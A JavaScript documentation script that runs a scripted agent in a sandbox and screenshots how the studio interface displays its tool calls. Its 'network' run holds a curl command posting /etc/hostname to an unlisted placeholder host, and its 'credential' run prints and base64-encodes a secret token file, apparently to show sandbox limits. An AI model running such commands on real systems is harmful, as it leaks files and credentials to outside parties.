/**
 * Takes pictures of what Studio shows of sandboxes: `npm run sandbox-screenshots` writes `docs/images/sandbox`. With a folder
 * behind `--` it writes there, and more of them, in both themes, to be looked at. Each is a real run of a scripted model on the
 * local runtime, and says so.
 */
import { mkdir } from "node:fs/promises";
import { join, resolve } from "node:path";
import { fileURLToPath } from "node:url";
import { Api } from "./harness/api.js";
import { launch, signedIn } from "./harness/browser.js";
import { badge, card, runPath } from "./harness/runPage.js";
import { Server } from "./harness/server.js";

const isToBeLookedAt = process.argv[2] !== undefined;
const folder = isToBeLookedAt ? resolve(process.argv[2]) : fileURLToPath(new URL("../../docs/images/sandbox", import.meta.url));
const VIEWPORT = { width: 1180, height: 900 };
const tool = (name, args) => [{ tool: name, arguments: args }];
const shell = (command) => tool("run_shell", { command });

const IN_THE_DOCUMENTS = ["network", "credential"];

/** The calls of each run, by the name of its picture. */
const RUNS = {
  files: {
    texts: ["I will write the parser first.", "The separator is wrong.", "Who uses it?", "What is there?"],
    calls: [
      tool("write_file", { path: "src/parse.py", content: 'def parse(line):\n    return line.split(",")\n' }),
      tool("edit_file", { path: "src/parse.py", old_text: '","', new_text: '";"' }),
      tool("grep", { pattern: "parse", path: "src" }),
      tool("list_files", {}),
    ],
  },
  network: {
    texts: ["I will look whether the mirror answers.", "And send what I found."],
    calls: [
      shell("curl -sS -m 5 https://files.example.org/list || true"),
      shell("curl -sS -m 5 https://elsewhere.example.net/upload -d @/etc/hostname || true"),
    ],
  },
  credential: {
    texts: ["I will look whether the token is there."],
    calls: [shell('printf "the token is "; cat "$RELEASE_TOKEN_FILE"; echo; base64 -w0 "$RELEASE_TOKEN_FILE"; echo')],
  },
  output: {
    texts: ["I will print all of it.", "And draw it."],
    calls: [
      shell("seq 1 200000"),
      tool("run_python", {
        code: "bars = ''.join(f'<rect x=\"{i * 30}\" y=\"{100 - h}\" width=\"24\" height=\"{h}\" fill=\"teal\"/>' for i, h in enumerate([20, 45, 70, 95]))\nopen('outputs/bars.svg', 'w').write(f'<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"120\" height=\"100\">{bars}</svg>')\nprint('drawn')",
      }),
    ],
  },
};

await mkdir(folder, { recursive: true });
const server = await Server.start();
const browser = await launch();
const api = new Api(server);
try {
  const credentialId = await api.credential("release-token", "tok_7Hq2v9XfR4mB8sLw");
  const sandboxProfileId = await api.sandboxProfile("mirror-only", {
    network: "HOSTS",
    networkHosts: ["files.example.org"],
    credentials: [{ credentialId, name: "RELEASE_TOKEN" }],
  });
  const tools = ["run_shell", "run_python", "write_file", "edit_file", "grep", "list_files"];
  const agent = await api.agent({ slug: "release-helper", name: "Release helper", scenario: "tools", tools, sandboxProfileId });
  const people = { dark: await signedIn(browser, server, "/", { viewport: VIEWPORT, colorScheme: "dark" }) };
  if (isToBeLookedAt) people.light = await signedIn(browser, server, "/", { viewport: VIEWPORT, colorScheme: "light" });
  for (const [name, script] of Object.entries(RUNS)) {
    if (!isToBeLookedAt && !IN_THE_DOCUMENTS.includes(name)) continue;
    const id = await api.start(agent, `Prepare the release. ${JSON.stringify({ ...script, answer: "Done." })}`);
    for (const [theme, { page }] of Object.entries(people)) {
      await page.goto(server.url + runPath(id));
      await badge(page, "Succeeded").waitFor();
      await card(page, script.calls.at(-1)[0].tool).last().getByRole("button", { name: /^Details of/ }).click();
      await page.getByText("Processes").waitFor();
      await page.mouse.move(0, 0);
      await page.screenshot({ path: join(folder, isToBeLookedAt ? `${name}-${theme}.png` : `${name}.png`), animations: "disabled" });
    }
  }
} finally {
  await browser.close();
  await server.stop();
}
